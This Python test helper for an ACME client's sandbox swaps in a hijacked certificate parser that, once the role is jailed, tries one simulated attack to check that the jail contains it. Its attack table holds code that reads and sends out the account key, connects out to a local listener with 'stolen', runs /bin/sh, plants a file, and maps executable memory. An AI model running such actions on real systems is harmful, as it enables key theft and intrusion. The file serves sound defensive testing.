"""A real certproc or revokeproc whose certificate parser has been taken over.

Run by test_sandbox_hostile.py as `python -I sandbox_hostile_child.py REQUEST-JSON`.
The role runs its real `main` (acquire, sandbox.enter, serve, error handling).
Before that, `cryptography.x509.load_pem_x509_certificates` is replaced by a
wrapper that, once the role is jailed, first performs one attack: what code
execution inside the parser (a memory-safety bug reached by a crafted
certificate) would try.  Before the jail the role parses only its built-in
warm-up samples; input from the CA is parsed after it, so the attack runs
jailed.
"""

from __future__ import annotations

import ctypes
import importlib
import json
import os
import signal
import socket
import sys
import threading
import types
from collections.abc import Callable
from typing import Any

from cryptography import x509

import acme_conf.sandbox
from acme_conf.proc import spec as specs

_libc = ctypes.CDLL(None, use_errno=True)


def _exfiltrate_key(bed: dict[str, Any], channels: dict[str, int]) -> None:
    fd = os.open(bed["account_key"], os.O_RDONLY)
    os.write(channels["netproc"], os.read(fd, 4096))


def _connect_out(bed: dict[str, Any], channels: dict[str, int]) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect(("127.0.0.1", bed["listener_port"]))
    sock.sendall(b"stolen")


def _run_shell(bed: dict[str, Any], channels: dict[str, int]) -> None:
    os.execv("/bin/sh", ["sh", "-c", f"echo pwned > {bed['marker']}"])


def _plant_file(bed: dict[str, Any], channels: dict[str, int]) -> None:
    os.close(os.open(os.path.join(bed["cert_dir"], "evil.pem"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))


def _signal_parent(bed: dict[str, Any], channels: dict[str, int]) -> None:
    os.kill(bed["parent_pid"], signal.SIGTERM)


def _start_thread(bed: dict[str, Any], channels: dict[str, int]) -> None:
    threading.Thread(target=lambda: None).start()


def _make_memory_executable(bed: dict[str, Any], channels: dict[str, int]) -> None:
    import mmap

    mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)


ATTACKS: dict[str, Callable[[dict[str, Any], dict[str, int]], None]] = {
    "exfiltrate_key": _exfiltrate_key,
    "connect_out": _connect_out,
    "run_shell": _run_shell,
    "plant_file": _plant_file,
    "signal_parent": _signal_parent,
    "start_thread": _start_thread,
    "make_memory_executable": _make_memory_executable,
}


def _settings(role: str, bed: dict[str, Any], names: tuple[str, ...]) -> Any:
    if role == "certproc":
        return specs.CertSettings(names)
    return specs.RevokeSettings(bed["certificate"], names, False, False)


def main() -> int:
    request = json.loads(sys.argv[1])
    role, bed, attack = request["role"], request["bed"], request["attack"]
    channels: dict[str, int] = request["channels"]
    role_module = importlib.import_module(f"acme_conf.proc.{role}")
    import mmap  # noqa: F401 - an attack's module, loaded like everything else before the jail

    if not request.get("warm_up", True):  # the control: what the warm-up spares the role
        from acme_conf import certstatus

        role_module.warm_up = certstatus.warm_up = lambda *args: None

    if request.get("drop_to"):
        uid, gid = request["drop_to"]
        os.setgroups([])
        os.setresgid(gid, gid, gid)
        os.setresuid(uid, uid, uid)
        _libc.prctl(ctypes.c_int(4), ctypes.c_ulong(1), ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_ulong(0))
    jailed: list[bool] = []
    enter = acme_conf.sandbox.enter
    if request.get("control_without_sandbox"):  # the negative control: the same attack, unjailed
        enter = lambda role, grants: types.SimpleNamespace(imports=None)  # noqa: E731

    def enter_and_note(role: str, grants: Any) -> Any:
        report = enter(role, grants)
        jailed.append(True)
        return report

    acme_conf.sandbox.enter = enter_and_note  # type: ignore[assignment]
    if attack != "none":
        genuine = x509.load_pem_x509_certificates

        def hijacked(data: bytes) -> list[x509.Certificate]:
            if jailed:  # what the CA sent, not a warm-up sample
                ATTACKS[attack](bed, channels)
            return genuine(data)

        x509.load_pem_x509_certificates = hijacked  # type: ignore[assignment]
    names = tuple(request.get("names", ("localhost",)))
    spec = specs.ChildSpec(role, "hostile", 0, True, tuple(channels.items()), _settings(role, bed, names))
    return int(role_module.main(spec))


if __name__ == "__main__":
    status = main()
    sys.stderr.flush()
    os._exit(status)
